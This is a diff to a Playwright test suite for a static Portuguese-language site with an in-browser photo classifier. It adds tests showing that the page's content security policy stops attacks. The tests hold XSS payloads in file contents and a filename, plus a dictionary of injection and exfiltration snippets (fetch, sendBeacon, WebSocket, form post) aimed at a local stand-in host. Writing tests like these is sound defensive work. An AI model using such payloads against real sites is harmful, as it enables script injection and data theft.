@@ -4,13 +4,14 @@ On machines without it these tests are skipped, but not where ``CI`` is set: the
 """
 
 import base64
+import contextlib
 import functools
 import gzip
 import io
 import re
 import shutil
 import threading
-from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import unquote, urlsplit
 
@@ -35,19 +36,26 @@ MODELS = Path(__file__).resolve().parent.parent / "models"
 LITERT_LOG = re.compile(r"(INFO|WARNING|VERBOSE): ")
 
 
-@pytest.fixture(scope="session")
-def address(site):
-    """Where a local server shows the site."""
+@contextlib.contextmanager
+def serving(folder):
+    """Show a folder by a local server; gives its address."""
     class Quiet(SimpleHTTPRequestHandler):
         extensions_map = {**SimpleHTTPRequestHandler.extensions_map, ".js": "text/javascript"}  # noqa: RUF012
 
         def log_message(self, *_):
             pass
 
-    with ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=site)) as server:
+    with ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=folder)) as server:
         threading.Thread(target=server.serve_forever, daemon=True).start()
         yield f"http://127.0.0.1:{server.server_port}"
         server.shutdown()
+
+
+@pytest.fixture(scope="session")
+def address(site):
+    """Where a local server shows the site."""
+    with serving(site) as address:
+        yield address
 
 
 @pytest.fixture(scope="session")
@@ -65,6 +73,9 @@ def tab(browser, address):
     """A page of the site, whatever it complains of, and the addresses it asks for outside the site."""
     page = browser.new_page(base_url=address)
     page.complaints, page.outside = [], []
+    page.expose_function("complain", lambda text: page.complaints.append(text))
+    page.add_init_script("""addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+        complain(`${effectiveDirective}: ${blockedURI}`))""")
     page.on("console", lambda message: message.type == "error" and not LITERT_LOG.match(message.text)
             and page.complaints.append(message.text))
     page.on("pageerror", lambda error: page.complaints.append(str(error)))
@@ -81,6 +92,18 @@ def classifier(tab, site):
         missing("the site was built without npm")
     tab.goto(PAGE)
     return tab
+
+
+def choose(page, file):
+    """Give a file to the page Experimente."""
+    page.set_input_files("#classificador input >> nth=0", file)
+
+
+def noted_dialogs(page):
+    """What the page says in dialogs from now on."""
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    return dialogs
 
 
 # Experimente: the same answers as Python
@@ -158,7 +181,7 @@ def test_page_agrees_with_python(shipped_classifier, photo_files, by_python):
 
 
 def test_reader_chooses_a_photo_and_sees_the_answer(classifier):
-    classifier.set_input_files("#classificador input >> nth=0", str(sample_photo()))
+    choose(classifier, str(sample_photo()))
     verdict = classifier.locator("[data-part=verdict]")
     verdict.wait_for()
     assert "na fase 2" in verdict.inner_text() and "%" in verdict.inner_text()
@@ -176,10 +199,74 @@ def test_sample_works_from_the_keyboard(classifier):
 
 def test_what_is_no_image_is_told(classifier):
     file = {"name": "notas.jpg", "mimeType": "image/jpeg", "buffer": b"not an image"}
-    classifier.set_input_files("#classificador input >> nth=0", file)
+    choose(classifier, file)
     status = classifier.locator("[data-part=status]", has_text="não é uma imagem")
     status.wait_for()
     assert classifier.complaints == []
+
+
+@pytest.mark.fault("Página no navegador", "um arquivo que não é foto: texto, página, desenho com script, foto cortada",
+                   "uma frase; nada do arquivo é executado")
+@pytest.mark.parametrize("content", [
+    b"", b"<script>alert(1)</script>", b"GIF89a<img src=x onerror=alert(1)>",
+    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
+    encoded(Image.new("RGB", (64, 64)), "PNG")[:60]], ids=["empty", "page", "half page", "drawing", "torn"])
+def test_what_is_no_photo_runs_nothing(classifier, content):
+    dialogs = noted_dialogs(classifier)
+    for kind in ("image/jpeg", "image/svg+xml"):
+        choose(classifier, {"name": "foto.jpg", "mimeType": kind, "buffer": content})
+        classifier.locator("[data-part=status]", has_text="não é uma imagem").wait_for()
+    assert dialogs == [] and classifier.complaints == []
+
+
+@pytest.mark.fault("Página no navegador", "um arquivo maior que 60 MB", "uma frase, sem lê-lo")
+def test_a_huge_file_is_refused_before_it_is_read(classifier, tmp_path):
+    with (tmp_path / "huge.jpg").open("wb") as file:
+        file.truncate(60_000_001)
+    choose(classifier, str(tmp_path / "huge.jpg"))
+    classifier.locator("[data-part=status]", has_text="até 60 MB").wait_for()
+    assert classifier.complaints == []
+
+
+@pytest.mark.fault("Página no navegador", "um nome de arquivo escrito para virar código",
+                   "a foto é classificada; nada é executado")
+def test_a_file_s_name_is_no_code(classifier):
+    dialogs = noted_dialogs(classifier)
+    before = classifier.locator("img").count()
+    name = "<img src=x onerror=alert(1)>.jpg"
+    choose(classifier, {"name": name, "mimeType": "image/jpeg", "buffer": sample_photo().read_bytes()})
+    classifier.locator("[data-part=verdict]:visible").wait_for()
+    assert dialogs == [] and classifier.complaints == []
+    assert classifier.locator("img").count() == before and "onerror" not in classifier.content()
+
+
+STORED = """async () => ({
+    local: { ...localStorage }, session: { ...sessionStorage }, cookies: document.cookie,
+    databases: await indexedDB.databases(), caches: await caches.keys(),
+    workers: (await navigator.serviceWorker.getRegistrations()).length,
+    files: await Array.fromAsync((await navigator.storage.getDirectory()).keys()),
+})"""
+
+
+def test_a_photo_is_neither_kept_nor_sent(classifier):
+    before = classifier.evaluate(STORED)
+    requests = []
+    classifier.on("request", lambda request: requests.append(request))
+    choose(classifier, str(sample_photo()))
+    classifier.locator("[data-part=verdict]:visible").wait_for()
+    classifier.wait_for_load_state("networkidle")
+    assert classifier.evaluate(STORED) == before and classifier.context.cookies() == []
+    assert requests and {request.method for request in requests} == {"GET"}
+    assert not any(request.post_data_buffer or urlsplit(request.url).query for request in requests)
+    assert classifier.outside == []
+
+
+def test_a_page_opened_from_the_disk_says_what_to_do(browser, site):
+    page = browser.new_page()
+    page.goto((site / PAGE).as_uri())
+    page.locator("[data-sample]").click()
+    page.locator("[data-part=status]", has_text="http.server").wait_for()
+    page.close()
 
 
 def test_without_the_model_the_page_says_what_to_do(classifier):
@@ -201,6 +288,118 @@ def test_pages_complain_of_nothing_and_load_nothing_from_outside(tab, page_names
     for name in page_names:
         tab.goto(name)
     assert tab.complaints == [] and tab.outside == []
+
+
+def test_pages_opened_from_the_disk_complain_of_nothing(browser, site, page_names):
+    page = browser.new_page()
+    complaints = []
+    page.on("console", lambda message: message.type == "error" and complaints.append(f"{page.url}: {message.text}"))
+    page.on("pageerror", lambda error: complaints.append(f"{page.url}: {error}"))
+    for name in page_names:
+        page.goto((site / name).as_uri())
+        assert page.evaluate("getComputedStyle(document.body).fontFamily")  # style sheets are there
+    page.close()
+    assert complaints == []
+
+
+def test_a_wrong_address_leads_to_a_page_that_complains_of_nothing(browser, site, tmp_path):
+    """404.html names its files by the address at which the site is published."""
+    prefix = re.search(r'src="(/[^"]*/)_static/', (site / "404.html").read_text(encoding="utf-8"))[1].strip("/")
+    (tmp_path / prefix).symlink_to(site)
+    page = browser.new_page()
+    complaints = []
+    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
+    page.on("pageerror", lambda error: complaints.append(str(error)))
+    with serving(tmp_path) as address:
+        page.goto(f"{address}/{prefix}/404.html")
+        assert page.locator("h1:visible").inner_text() == "Página não encontrada"
+    page.close()
+    assert complaints == []
+
+
+@pytest.fixture
+def elsewhere():
+    """Another site: its address, and what it was asked."""
+    seen = []
+
+    class Noting(BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_OPTIONS = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", seen
+        server.shutdown()
+
+
+ATTACKS = {
+    "script": "document.head.appendChild(Object.assign(document.createElement('script'), {text: 'reached = true'}))",
+    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"reached = true\">')",
+    "address": "document.body.insertAdjacentHTML('beforeend', '<a id=bait href=\"javascript:reached=true\">x</a>');"
+               "document.getElementById('bait').click()",
+    "text made code": "try { eval('reached = true'); } catch {}",
+    "function of a text": "try { new Function('reached = true')(); } catch {}",
+    "request": "fetch(OTHER).catch(() => {})",
+    "beacon": "navigator.sendBeacon(OTHER, 'photo')",
+    "socket": "try { new WebSocket(OTHER.replace('http', 'ws')); } catch {}",
+    "picture": "new Image().src = OTHER",
+    "other script": "document.head.appendChild(Object.assign(document.createElement('script'), {src: OTHER}))",
+    "style sheet": "document.head.appendChild(Object.assign(document.createElement('link'),"
+                   " {rel: 'stylesheet', href: OTHER}))",
+    "frame": "document.body.appendChild(Object.assign(document.createElement('iframe'), {src: OTHER}))",
+    "worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + OTHER + '\")']))); } catch {}",
+    "form": "document.body.insertAdjacentHTML('beforeend', `<form id=bait action='${OTHER}' method=post></form>`);"
+            "document.getElementById('bait').submit()",
+    "base": "document.head.insertAdjacentHTML('afterbegin', `<base href='${OTHER}/'>`); new Image().src = 'x.png'",
+}
+
+
+def run_later(attack, other):
+    """The attack as a script of the page: what Playwright runs itself may make code of texts whatever the policy."""
+    return f"window.reached = false; setTimeout(() => {{ const OTHER = {other!r}; {attack}; }}); undefined"
+
+
+def until(page, condition, what=""):
+    """Wait for something, five seconds at most."""
+    for _ in range(50):
+        if condition():
+            return
+        page.wait_for_timeout(100)
+    pytest.fail(f"it did not happen: {what}")
+
+
+@pytest.mark.fault("Página no navegador", "código alheio dentro de uma página: script, atributo, eval, envio",
+                   "o navegador não executa nem envia nada")
+@pytest.mark.parametrize("name", [PAGE, "book/pratica/confianca.html"], ids=["model", "formulas"])
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
+def test_the_policy_stops_what_is_not_the_site_s(tab, elsewhere, name, attack):
+    other, seen = elsewhere
+    tab.goto(name)
+    tab.evaluate(run_later(attack, other))
+    until(tab, lambda: tab.complaints)  # it was stopped, and did not merely fail
+    tab.wait_for_timeout(100)
+    assert tab.evaluate("reached") is False and seen == []
+
+
+def test_the_attacks_work_without_the_policy(browser, address, elsewhere):
+    """Else the test above would show nothing."""
+    context = browser.new_context(base_url=address, bypass_csp=True)
+    for name, attack in ATTACKS.items():
+        page = context.new_page()
+        other, seen = elsewhere
+        seen.clear()
+        page.goto("search.html")
+        page.evaluate(run_later(attack, other))
+        until(page, lambda page=page, seen=seen: seen or page.evaluate("reached"), name)
+        page.close()
+    context.close()
 
 
 def test_images_are_loaded(tab, page_names):
@@ -242,7 +441,7 @@ def test_pages_are_accessible(tab, site, page_names, scheme):
         if name == PAGE:
             tab.locator("[data-sample]").click()
             tab.locator("[data-part=verdict]:visible, [data-part=status]:not(:empty)").first.wait_for()
-        tab.add_script_tag(path=axe)
+        tab.evaluate(axe.read_text(encoding="utf-8"))  # as a tag, the page's policy would stop it
         found |= {f"{name}: {violation}" for violation in tab.evaluate(script, rules)}
     assert sorted(found) == []
 
